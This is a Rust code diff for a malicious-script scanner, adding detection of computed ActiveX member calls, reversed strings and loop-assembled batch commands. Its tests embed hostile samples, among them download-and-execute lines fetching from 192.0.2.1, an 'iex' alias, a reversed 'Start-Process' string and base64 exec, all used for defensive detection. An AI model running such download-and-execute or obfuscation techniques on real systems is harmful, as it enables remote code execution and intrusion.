@@ -44,6 +44,9 @@ pub(super) const KINDS: &[Kind] = &[
     Kind::Inf,
 ];
 
+/// Shortest text that is worth turning around.
+const TURNED: usize = 8;
+
 /// Bytes of a script that are searched.
 const LONGEST: usize = 4 << 20;
 
@@ -126,6 +129,7 @@ fn deed(artifact: &Artifact, behaviour: &Behaviours) -> Option<(&'static str, St
     }
     if behaviour.evaluator(artifact.kind, &squeezed).is_some() {
         let masked = script::masked_texts(&source).into_iter();
+        let masked = masked.chain(script::based_texts(&source));
         let mut texts = masked.chain(encoded_texts(artifact));
         if let Some(shown) = texts.find(|text| is_code(text)) {
             return Some(("decodes-and-runs", shown));
@@ -145,8 +149,53 @@ fn deed(artifact: &Artifact, behaviour: &Behaviours) -> Option<(&'static str, St
     None
 }
 
+/// In JavaScript, an object whose name a function gives, and a member whose name one gives: `new ActiveXObject(d(1))`,
+/// `o[d(2)](d(3))`. Libraries try a list of names, and call their members by them.
+fn runs_unknown_member(artifact: &Artifact) -> Option<String> {
+    let data = artifact.data.get(..LONGEST).unwrap_or(&artifact.data);
+    let source = text::to_utf8(data);
+    let (tokens, _) = script::tokens(&source, Language::Js);
+    let name = |at: usize| match tokens.get(at).map(|token| &token.kind) {
+        Some(TokenKind::Name(name)) => name.as_str(),
+        _ => "",
+    };
+    let sign = |at: usize, sign: u8| {
+        tokens
+            .get(at)
+            .is_some_and(|token| token.kind == TokenKind::Sign(sign))
+    };
+    let given = |at: usize| !name(at).is_empty() && sign(at.saturating_add(1), b'(');
+    let mut made = None;
+    let mut member = false;
+    for at in 0..tokens.len() {
+        let next = at.saturating_add(1);
+        let makes = matches!(name(at), "ActiveXObject" | "CreateObject") && sign(next, b'(');
+        if makes && given(next.saturating_add(1)) {
+            made.get_or_insert(at);
+        }
+        let calls = sign(at, b'(') && at > 0 && sign(at.saturating_sub(1), b']');
+        // `[name(text)](`: the bracket stands a few tokens before.
+        let open = (2..=8).filter_map(|back| at.checked_sub(back));
+        member |= calls
+            && open
+                .into_iter()
+                .any(|open| sign(open, b'[') && given(open.saturating_add(1)));
+    }
+    let at = made.filter(|_| member)?;
+    let span = tokens.get(at)?.span.clone();
+    let line = source.get(span.start..)?.lines().next()?;
+    Some(
+        line.get(..line.floor_char_boundary(160))
+            .unwrap_or(line)
+            .to_owned(),
+    )
+}
+
 /// `CreateObject(x).Run command` with an `x` that the script does not tell.
 fn runs_unknown(artifact: &Artifact) -> Option<String> {
+    if artifact.kind == Kind::Js {
+        return runs_unknown_member(artifact);
+    }
     if artifact.kind != Kind::Vbs {
         return None;
     }
@@ -184,7 +233,8 @@ fn encoded_texts(artifact: &Artifact) -> Vec<String> {
     found
 }
 
-/// Adds what the texts of each list come to one behind the other, as loops put them together.
+/// Adds what the texts of each list come to one behind the other, as loops put them together; and every text turned
+/// around in a script that turns something around.
 fn add_lists(source: &str, kind: Kind, squeezed: &mut String) {
     let language = match kind {
         Kind::Js => Language::Js,
@@ -192,9 +242,19 @@ fn add_lists(source: &str, kind: Kind, squeezed: &mut String) {
         Kind::Py => Language::Other,
         _ => return,
     };
+    let turns = squeezed.contains("]::reverse(") || squeezed.contains(".reverse()");
     let mut texts: Vec<String> = Vec::new();
     let mut comma = false;
     for token in script::tokens(source, language).0 {
+        if let TokenKind::Text(text) = &token.kind
+            && turns
+            && text.len() >= TURNED
+            && squeezed.len() < LONGEST.saturating_mul(2)
+        {
+            squeezed.push('\n');
+            let kept = text.chars().rev().filter(|c| !c.is_whitespace());
+            squeezed.extend(kept.map(|c| c.to_ascii_lowercase()));
+        }
         match token.kind {
             TokenKind::Text(text) if comma || texts.is_empty() => {
                 comma = false;
@@ -257,6 +317,8 @@ pub(super) fn squeezed(source: &str, kind: Kind) -> String {
         out.extend(
             line.chars()
                 .filter(|c| !c.is_whitespace() && !matches!(c, '`' | '^'))
+                // Quotes within words of a batch file say nothing.
+                .filter(|c| *c != '"' || kind != Kind::Bat)
                 .map(|c| c.to_ascii_lowercase()),
         );
     }
@@ -274,7 +336,8 @@ fn squeezed_tokens(source: &str, language: Language) -> String {
         "write-error",
         "echo",
     ];
-    let mut out = String::with_capacity(source.len());
+    // A line's start is marked like that of every other one.
+    let mut out = String::from("\n");
     let (mut shown, mut first) = (false, true);
     for token in script::tokens(source, language).0 {
         let starts = std::mem::take(&mut first);
@@ -363,8 +426,11 @@ fn started(source: &str, behaviour: &Behaviours) -> Option<String> {
                 let batch = &behaviour.batch;
                 let ordinary = batch.ordinary.get(&command.program);
                 let arguments = command.arguments.to_lowercase();
+                // A program that a loop put together is given an address.
+                let hidden = command.program.starts_with(['%', '!']) && command.program.len() > 2;
                 batch.starters.contains(&command.program)
                     && !ordinary.is_some_and(|given| arguments.contains(given.as_str()))
+                    || hidden && arguments.contains("http")
             })
     };
     source
@@ -415,6 +481,18 @@ mod tests {
                 "' CreateObject(\"WScript.Shell\").Run x\r\nMsgBox 1\r\n",
             ),
             (Kind::Py, "import os\nprint(os.getcwd())\n"),
+            (
+                Kind::Bat,
+                "for %%a in (1 2) do echo %%a\r\n%JAVA% -jar a.jar\r\n",
+            ),
+            (
+                Kind::Js,
+                "for (i in p) { try { x = new ActiveXObject(p[i]); } catch (e) {} } h[k](1);",
+            ),
+            (
+                Kind::Ps1,
+                "Set-Alias np notepad\nif ($confirm -eq 'http') { [array]::Reverse($a) }\n",
+            ),
         ] {
             assert_eq!(found(kind, source), ["medium"], "{source}");
         }
@@ -446,6 +524,21 @@ mod tests {
                 "var a = ['new ActiveX', 'Object(\"WScr', 'ipt.Shell\").', 'Run(1)'];for (i in a) r += a[i]; eval(r);",
             ),
             (Kind::Bat, "start \"\" a.exe\r\n"),
+            (
+                Kind::Bat,
+                "for %%a in (m s) do set s=!s!%%a\r\n%s% http://192.0.2.1/a\r\n",
+            ),
+            (
+                Kind::Js,
+                "var o = new ActiveXObject(d('1')); o[d('2')](d('3'));",
+            ),
+            (Kind::Js, "GetObject('script:http://192.0.2.1/a')"),
+            (Kind::Ps1, "[array]::Reverse($a); $b = 'x ssecorP-tratS'\n"),
+            (Kind::Ps1, "sal x iex\nx $y\n"),
+            (
+                Kind::Ps1,
+                "[ScriptBlock]::Create((irm 'http://192.0.2.1/')).Invoke()",
+            ),
             (Kind::Py, "exec(base64.b64decode('YWJj'))\n"),
         ] {
             assert_eq!(found(kind, source), ["critical"], "{source}");
